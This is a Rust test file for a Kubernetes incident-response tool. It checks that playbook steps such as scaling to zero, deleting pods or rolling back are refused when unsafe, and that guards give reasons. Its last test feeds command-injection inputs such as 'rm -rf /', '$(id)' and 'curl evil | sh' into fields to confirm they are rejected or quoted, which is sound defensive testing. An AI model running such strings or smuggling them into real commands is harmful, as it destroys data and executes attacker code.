//! What is never suggested, what is blocked, and what a guard says: also for playbooks of a team.

use covet_tui::domain::*;
use covet_tui::playbooks::{Library, Plan, StepState};

use super::world::{World, ago};

const OOM: Option<(&str, i32)> = Some(("OOMKilled", 137));

/// A team's playbook for crash-loop whose only change does this, for every cause there could be.
fn team(todo: &str, guards: &str) -> Library {
    let causes: Vec<String> = CAUSES.iter().map(|cause| format!("\"{}\"", cause.name)).collect();
    let text = format!(
        r#"
[[playbook]]
id = "crash-loop"
title = "Ours"
category = "Team"
trigger = {{ rule = "crash-loop" }}
resolved = {{ says = "well", when = ["pods-ready"], for = "1m" }}
[[playbook.step]]
id = "look"
phase = "investigate"
title = "Look"
why = "Look."
do = {{ action = "list-pods" }}
[[playbook.step]]
id = "before"
phase = "investigate"
title = "Logs"
why = "Logs."
do = {{ action = "logs", pods = "failing", previous = true }}
[[playbook.step]]
id = "act"
phase = "mitigate"
title = "Act"
why = "Act."
do = {todo}
for_causes = [{}]
guards = [{guards}]
undo = "none"
verify = ["look"]
"#,
        causes.join(", ")
    );
    Library::with_team_file("team.toml", &text).unwrap_or_else(|lints| panic!("{lints:#?}"))
}

fn act(world: &World, todo: &str, guards: &str) -> (StepState, Plan) {
    let plan = world.plan_by(&team(todo, guards));
    (plan.step("act").unwrap().state.clone(), plan)
}

/// The action is not advised, in these words, and something else is suggested.
fn refuses(world: &World, todo: &str, guards: &str, words: &str) {
    let (state, plan) = act(world, todo, guards);
    match state {
        StepState::NotAdvised { why } => assert!(why.contains(words), "{todo}: {why}"),
        other => panic!("{todo} with [{guards}] should not be advised, but is {other:?}"),
    }
    assert_ne!(plan.suggestion().map(|step| step.id.as_str()), Some("act"));
}

fn advises(world: &World, todo: &str, guards: &str) {
    let (state, _) = act(world, todo, guards);
    assert!(matches!(state, StepState::Suggested { .. }), "{todo} with [{guards}]: {state:?}");
}

fn crashing() -> World {
    World::new("crash-loop", "shop", "cart", 4, 6)
        .bad_revision(7, "CrashLoopBackOff", OOM)
        .cause(cause::CRASH, "exits with 1")
        .did("before")
        .did("look")
}

#[test]
fn never_to_zero_while_something_serves_and_never_first() {
    let to_zero = r#"{ action = "scale", name = "{deployment}", replicas = 0 }"#;
    refuses(&crashing(), to_zero, "", "4 ready replicas still serve: this is a full outage");
    let down = World::new("crash-loop", "shop", "cart", 4, 6).all_bad("CrashLoopBackOff", OOM);
    refuses(&down.cause(cause::CRASH, "exits").did("before"), to_zero, "", "a last resort");
}

#[test]
fn no_memory_without_a_memory_kill() {
    let raise = r#"{ action = "set-resources", name = "{deployment}", container = "{container}", memory_limit = "4Gi" }"#;
    refuses(&crashing(), raise, "", "no container was killed for memory");
    advises(&crashing().cause(cause::OOM_KILLED, "OOMKilled"), raise, "");
}

#[test]
fn no_restart_of_what_restarts_anyway() {
    let restart = r#"{ action = "rollout-restart", name = "{deployment}" }"#;
    refuses(&crashing(), restart, "", "the back-off restarts the containers anyway");
    let mut full = crashing();
    full.facts.push((
        Origin::Postgres,
        Fact::Database(Database::Exhausted { message: "FATAL: sorry, too many clients already".into() }),
    ));
    refuses(&full, restart, "", "cannot connect");
}

#[test]
fn pods_are_not_deleted_before_their_log_was_read_nor_when_they_serve_nor_to_crash_again() {
    let failing = r#"{ action = "delete-pods", pods = "failing" }"#;
    refuses(&crashing(), failing, "", "crashes the same way");
    refuses(
        &crashing(),
        r#"{ action = "delete-pods", pods = "all" }"#,
        "",
        "4 ready pods among them still serve",
    );
    // Pods of the old revision, not ready: still not to be deleted.
    let mut world =
        World::new("crash-loop", "shop", "cart", 3, 6).cause(cause::CRASH, "x").did("before").did("look");
    world.add_waiting_pod(6, 7, "Error", OOM);
    world.add_revision(7, 0, ago(200));
    refuses(&world, failing, "", "older revision");
    // The log first.
    let mut unread = World::new("crash-loop", "shop", "cart", 3, 6).cause(cause::CRASH, "x").did("look");
    unread.add_waiting_pod(6, 7, "Error", OOM);
    let (state, plan) = act(&unread, failing, "\"evidence-captured\"");
    assert!(matches!(state, StepState::NotAdvised { .. }), "{state:?}");
    assert_eq!(plan.suggestion().unwrap().id, "before");
    advises(&unread.did("before"), failing, "\"evidence-captured\"");
}

#[test]
fn no_way_back_that_leads_nowhere() {
    let undo = |revision: &str| {
        format!(r#"{{ action = "rollout-undo", name = "{{deployment}}", to_revision = {revision} }}"#)
    };
    advises(&crashing(), &undo("6"), "\"healthy-revision\"");
    refuses(&crashing(), &undo("7"), "", "revision 7 is the one that runs now");
    let mut irreversible = crashing();
    irreversible.sets.last_mut().unwrap().change_cause = Some("migration 0042, Irreversible".into());
    refuses(&irreversible, &undo("6"), "", "irreversible");
    let mut missing = crashing().cause(cause::MISSING_REFERENCE, "no key").binding("missing_kind", "Secret");
    missing = missing.binding("missing_object", "cart-db").binding("missing_key", "URL");
    let reference = ConfigReference {
        object: ObjectRef::new(Kind::Secret, Key::new("shop", "cart-db")),
        key: Some("URL".into()),
        optional: false,
    };
    missing.sets[0].template.references = Box::new([reference]);
    refuses(&missing, &undo("6"), "", "revision 6 needs the same");
}

#[test]
fn no_surge_for_lack_of_room_and_no_strategy_that_cannot_move() {
    let strategy = |surge: &str, unavailable: &str| {
        format!(
            r#"{{ action = "patch", kind = "Deployment", name = "{{deployment}}", type = "strategic", body = {{ spec = {{ strategy = {{ rollingUpdate = {{ maxSurge = {surge}, maxUnavailable = {unavailable} }} }} }} }} }}"#
        )
    };
    let full = crashing().cause(cause::UNSCHEDULABLE, "Insufficient memory");
    refuses(&full, &strategy("1", "0"), "", "more room than there is");
    refuses(&full, &strategy("\"25%\"", "\"0%\""), "", "more room than there is");
    refuses(&full, &strategy("0", "0"), "", "no rollout can move");
    advises(&full, &strategy("0", "1"), "");
    let mut hungry = crashing().cause(cause::UNSCHEDULABLE, "Insufficient cpu");
    hungry.sets.last_mut().unwrap().template.containers[0].requests.cpu_milli = Some(3_000);
    refuses(&hungry, &strategy("0", "1"), "", "ask for more than an old one frees");
    advises(&crashing(), &strategy("1", "0"), "");
}

#[test]
fn no_new_token_for_an_image_that_does_not_exist_and_no_other_program_from_a_mirror() {
    let token = r#"{ action = "pull-secret", secret = "regcred", registry = "ghcr.io", username = "u", token_env = "T" }"#;
    refuses(&crashing().cause(cause::IMAGE_NOT_FOUND, "404"), token, "", "a new token does not bring it");
    // "denied" may hide either: then both are checked.
    advises(&crashing().cause(cause::IMAGE_NOT_FOUND, "404").cause(cause::IMAGE_AUTH, "401"), token, "");
    let image = |image: &str| {
        format!(
            r#"{{ action = "set-image", name = "{{deployment}}", container = "{{container}}", image = "{image}" }}"#
        )
    };
    refuses(&crashing(), &image("docker.io/org/cart:v7"), "", "another repository");
    advises(&crashing(), &image("ghcr.io/org/cart:v6"), "");
}

#[test]
fn guards_say_why() {
    let scale = r#"{ action = "scale", name = "{deployment}", replicas = 6 }"#;
    refuses(
        &crashing().with_autoscaler(3, 10),
        scale,
        "\"hpa-owns-replicas\"",
        "HPA cart-hpa owns the replicas (3 to 10)",
    );
    advises(&crashing(), scale, "\"hpa-owns-replicas\"");
    refuses(&crashing().connections(80, 90), scale, "\"database-headroom\"", "80 of 87 connections");
    advises(&crashing().connections(40, 90), scale, "\"database-headroom\"");
    let mut young = crashing();
    young.sets.last_mut().unwrap().created = ago(20);
    refuses(&young, scale, "\"another-rollout\"", "another rollout began 20s ago");
    advises(&crashing(), scale, "\"another-rollout\"");
    let mut last = World::new("crash-loop", "shop", "cart", 1, 6).cause(cause::ONE_POD, "errors").did("look");
    let evict = r#"{ action = "evict", pods = "worst" }"#;
    refuses(&last, evict, "\"last-ready-replica\"", "the last ready replica");
    last.add_ready_pod(6, 1);
    last.deployment.replicas = 3;
    advises(&last, evict, "\"last-ready-replica\"");
    last.budgets.push(DisruptionBudget {
        key: Key::new("shop", "cart-pdb"),
        selector: last.deployment.selector.clone(),
        allowed: 0,
        healthy: 2,
        desired_healthy: 2,
        expected: 2,
    });
    refuses(&last, evict, "\"pdb-headroom\"", "PDB cart-pdb allows no disruption");
}

#[test]
fn what_is_not_ours_to_do_is_suggested_to_somebody_else() {
    let undo = r#"{ action = "rollout-undo", name = "{deployment}", to_revision = 6 }"#;
    let mut read_only = crashing();
    read_only.read_only = true;
    let (state, plan) = act(&read_only, undo, "");
    assert!(matches!(state, StepState::Suggested { .. }), "{state:?}");
    assert_eq!(plan.suggestion().unwrap().not_ours.as_deref(), Some("this session is read-only"));
    let mut denied = crashing();
    denied.denied.extend(plan.suggestion().unwrap().access.clone());
    let (state, plan) = act(&denied, undo, "");
    assert!(matches!(state, StepState::Suggested { .. }), "{state:?}");
    let why = plan.suggestion().unwrap().not_ours.clone().unwrap();
    assert!(why.starts_with("you may not patch deployments in "), "{why}");
    let (_, plan) = act(&crashing(), undo, "");
    assert_eq!(plan.suggestion().unwrap().not_ours, None);
}

#[test]
fn a_paused_rollout_blocks_and_owners_are_named() {
    let undo = r#"{ action = "rollout-undo", name = "{deployment}", to_revision = 6 }"#;
    let mut paused = crashing();
    paused.deployment.paused = true;
    let (state, _) = act(&paused, undo, "\"paused\"");
    assert!(matches!(&state, StepState::Blocked { why } if why.contains("paused")), "{state:?}");
    let mut kept = crashing();
    kept.deployment.keeper = Some(Keeper { tool: "Helm".into(), name: "cart".into() });
    let (state, plan) = act(&kept, undo, "\"gitops-owner\"");
    assert!(matches!(state, StepState::Suggested { .. }));
    assert!(plan.step("act").unwrap().notes[0].contains("Helm (cart) manages it and will revert this"));
}

#[test]
fn what_was_taken_back_is_not_suggested_again() {
    let undo = r#"{ action = "rollout-undo", name = "{deployment}", to_revision = 6 }"#;
    let mut world = crashing().did("act");
    world.progress.steps.get_mut("act").unwrap().undone = true;
    refuses(&world, undo, "", "taken back");
}

#[test]
fn values_are_checked_and_hostile_ones_never_pass() {
    use covet_tui::playbooks::{Facts, bind};
    let library = Library::built_in();
    let step =
        library.get("crash-loop").unwrap().steps.iter().find(|step| step.id == "raise-memory").unwrap();
    let world = crashing();
    let snapshot = world.snapshot();
    let facts = Facts {
        anomaly: &world.anomaly,
        fires: true,
        snapshot: &snapshot,
        settings: &world.settings,
        systems: &world.systems,
        read_only: false,
        denied: &std::collections::BTreeSet::new(),
        now: super::world::now(),
        progress: &world.progress,
    };
    let with = |value: &str| bind(step, &facts, &[("memory".to_owned(), value.to_owned())].into());
    assert!(with("3Gi").is_ok() && with("1536Mi").is_ok());
    for wrong in ["", "3 Gi", "-1", "0", "lots", "3Gi; rm -rf /", "$(id)", "3Gi\n"] {
        let refused = with(wrong);
        assert!(refused.is_err() || wrong == "3Gi\n", "{wrong:?} → {refused:?}");
    }
    assert_eq!(with("many").unwrap_err().name, "memory");
    assert!(
        bind(step, &facts, &std::collections::BTreeMap::new()).unwrap_err().says.contains("New memory limit")
    );

    // Text for a person to paste is quoted, whatever the namespace is called.
    let hostile =
        World::new("prom-down", "shop", "web", 1, 1).binding("prometheus_namespace", "x; curl evil | sh");
    let plan = hostile.plan();
    let Some(Action::Elsewhere { operation, .. }) = &plan.step("restore").unwrap().action else { panic!() };
    assert!(operation.starts_with("kubectl -n 'x; curl evil | sh' debug"), "{operation}");
    // What is asked of a registry is an image, or nothing.
    let mut hostile = World::new("image-pull", "shop", "web", 1, 1);
    hostile.pods[0].containers[0].image = "x; curl evil | sh".into();
    assert_eq!(hostile.plan().step("manifest").unwrap().action, None);
}
